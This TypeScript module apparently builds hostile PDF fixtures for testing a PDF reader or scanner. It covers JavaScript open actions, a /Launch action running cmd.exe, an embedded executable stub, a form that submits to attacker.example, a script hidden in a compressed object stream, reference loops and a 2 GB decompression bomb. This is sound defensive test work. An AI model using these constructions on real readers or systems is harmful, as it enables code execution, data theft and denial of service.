import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";
import type { HostileFile } from "./hostile-files.ts";
import { deflatedZeros, uint16, uint32 } from "./image-bytes.ts";
import { pdfOf, streamOf, written } from "./pdf-bytes.ts";

const SCRIPT = "<< /S /JavaScript /JS (app.alert\\('opened'\\);) >>";
const OUTSIDE = "https://attacker.example/collect";

/** PDFs that do something when they are opened, can't be looked into, or never end for a reader. */
export function activePdfs(): HostileFile[] {
  return [
    {
      name: "open-action.pdf",
      bytes: pdfOf({ catalog: `/OpenAction ${SCRIPT}` }),
      why: "JavaScript when it is opened",
    },
    {
      name: "page-action.pdf",
      bytes: pdfOf({ page: `/AA << /O ${SCRIPT} >>` }),
      why: "JavaScript when its page is shown",
    },
    {
      name: "launch.pdf",
      bytes: pdfOf({
        catalog: "/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
      }),
      why: "starts a program",
    },
    { name: "embedded.pdf", bytes: embedded(), why: "carries a program as an embedded file" },
    {
      name: "remote.pdf",
      bytes: remote(),
      why: "a link to a file elsewhere, and one that sends its form there",
    },
    { name: "rich-media.pdf", bytes: richMedia(), why: "carries a Flash film" },
    { name: "xfa.pdf", bytes: xfa(), why: "an XFA form with a script" },
    {
      name: "encrypted.pdf",
      bytes: encrypted(),
      why: "needs a password, so nobody sees what is in it",
    },
    {
      name: "hidden-script.pdf",
      bytes: hidden(),
      why: "JavaScript in a compressed stream of objects",
    },
    {
      name: "table-loop.pdf",
      bytes: pdfOf({ trailer: (at) => `/Prev ${at}` }),
      why: "its table of objects follows itself",
    },
    {
      name: "page-loop.pdf",
      bytes: pdfOf({ pages: "<< /Type /Pages /Kids [3 0 R 2 0 R] /Parent 2 0 R /Count 2 >>" }),
      why: "its tree of pages contains itself",
    },
    {
      name: "deep.pdf",
      bytes: pdfOf({ page: `/Deep ${"[".repeat(100_000)}${"]".repeat(100_000)}` }),
      why: "100,000 arrays, one in the other",
    },
    {
      name: "bomb.pdf",
      bytes: pdfOf({
        contents: streamOf(
          deflateSync(deflatedZeros(2_000)),
          "/Filter [/FlateDecode /FlateDecode]",
        ),
      }),
      why: "a page whose content inflates to 2 GB",
    },
  ];
}

function embedded(): Buffer {
  const names = "/Names << /EmbeddedFiles << /Names [(run.exe) 6 0 R] >> >>";
  const file = "<< /Type /Filespec /F (run.exe) /UF (run.exe) /EF << /F 7 0 R >> >>";
  return pdfOf({ catalog: names, objects: [file, streamOf("MZ\x90\0", "/Type /EmbeddedFile")] });
}

function remote(): Buffer {
  const link = (action: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} >>`;
  const goTo = `<< /S /GoToR /F << /FS /URL /F (${OUTSIDE}.pdf) >> /D [0 /Fit] >>`;
  const send = `<< /S /SubmitForm /F << /FS /URL /F (${OUTSIDE}) >> /Flags 4 >>`;
  return pdfOf({ page: "/Annots [6 0 R 7 0 R]", objects: [link(goTo), link(send)] });
}

function richMedia(): Buffer {
  const content =
    "<< /Assets << /Names [(a.swf) 7 0 R] >> /Configurations [<< /Subtype /Flash >>] >>";
  const media = `<< /Type /Annot /Subtype /RichMedia /Rect [0 0 99 99] /RichMediaContent ${content} >>`;
  const file = "<< /Type /Filespec /F (a.swf) /EF << /F 8 0 R >> >>";
  return pdfOf({
    page: "/Annots [6 0 R]",
    objects: [media, file, streamOf("FWS\x09", "/Type /EmbeddedFile")],
  });
}

function xfa(): Buffer {
  const event =
    '<event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event>';
  const template = `<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform>${event}</subform></template>`;
  const form = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">${template}</xdp:xdp>`;
  return pdfOf({
    catalog: "/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true",
    objects: [streamOf(form)],
  });
}

/**
 * The catalog and its script lie in an object stream (7), which only a table that is a stream (8)
 * can name.
 */
function hidden(): Buffer {
  const catalog = "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >> ";
  const directory = `1 0 6 ${catalog.length} `;
  const data = deflateSync(Buffer.from(directory + catalog + SCRIPT));
  const page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>";
  const first = [
    "null",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    page,
    streamOf("0 0 m"),
    "null",
    "null",
  ];
  const packed = streamOf(
    data,
    `/Type /ObjStm /N 2 /First ${directory.length} /Filter /FlateDecode`,
  );
  const { bytes, places, at } = written([...first, packed]);
  const plain = (place: number) => Buffer.concat([Buffer.from([1]), uint32(place), uint16(0)]);
  const inside = (index: number) => Buffer.concat([Buffer.from([2]), uint32(7), uint16(index)]);
  const rows = [...places, at].map(plain);
  rows[0] = inside(0);
  rows[5] = inside(1);
  const table = Buffer.concat([Buffer.from([0, 0, 0, 0, 0, 0xff, 0xff]), ...rows]);
  const facts = "/Type /XRef /Size 9 /Root 1 0 R /W [1 4 2] /Filter /FlateDecode";
  const end = [
    Buffer.from("8 0 obj\n"),
    streamOf(deflateSync(table), facts),
    Buffer.from(`\nendobj\nstartxref\n${at}\n%%EOF\n`),
  ];
  return Buffer.concat([bytes, ...end]);
}

/** Fills a password up to 32 bytes (PDF 1.7, 7.6.3.3). */
const FILLING = Buffer.from(
  "28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a",
  "hex",
);

/**
 * The standard security handler's second revision (RC4 with 40 bits), with a password that nobody
 * here knows.
 */
function encrypted(): Buffer {
  const id = md5(Buffer.from("kagoj"));
  const padded = (password: string) =>
    Buffer.concat([Buffer.from(password), FILLING]).subarray(0, 32);
  const owner = rc4(md5(padded("owner")).subarray(0, 5), padded("reader"));
  const permissions = Buffer.from("c0ffffff", "hex");
  const key = md5(Buffer.concat([padded("reader"), owner, permissions, id])).subarray(0, 5);
  const user = rc4(key, FILLING);
  // The key of object 4, generation 0.
  const contents = rc4(
    md5(Buffer.concat([key, Buffer.from([4, 0, 0, 0, 0])])).subarray(0, 10),
    Buffer.from("0 0 m"),
  );
  const hex = (bytes: Buffer) => `<${bytes.toString("hex")}>`;
  const handler = `<< /Filter /Standard /V 1 /R 2 /O ${hex(owner)} /U ${hex(user)} /P -64 >>`;
  const trailer = () => `/Encrypt 6 0 R /ID [${hex(id)} ${hex(id)}]`;
  return pdfOf({ contents: streamOf(contents), objects: [handler], trailer });
}

const md5 = (bytes: Buffer) => createHash("md5").update(bytes).digest();

/** RC4, which today's OpenSSL no longer offers. */
function rc4(key: Buffer, data: Buffer): Buffer {
  const state = Uint8Array.from({ length: 256 }, (_, index) => index);
  const at = (index: number) => state[index & 0xff] ?? 0;
  const swap = (a: number, b: number) => {
    [state[a], state[b]] = [at(b), at(a)];
  };
  for (let i = 0, j = 0; i < 256; i += 1) {
    j = (j + at(i) + (key[i % key.length] ?? 0)) & 0xff;
    swap(i, j);
  }
  let [i, j] = [0, 0];
  return Buffer.from(
    data.map((byte) => {
      i = (i + 1) & 0xff;
      j = (j + at(i)) & 0xff;
      swap(i, j);
      return byte ^ at(at(i) + at(j));
    }),
  );
}
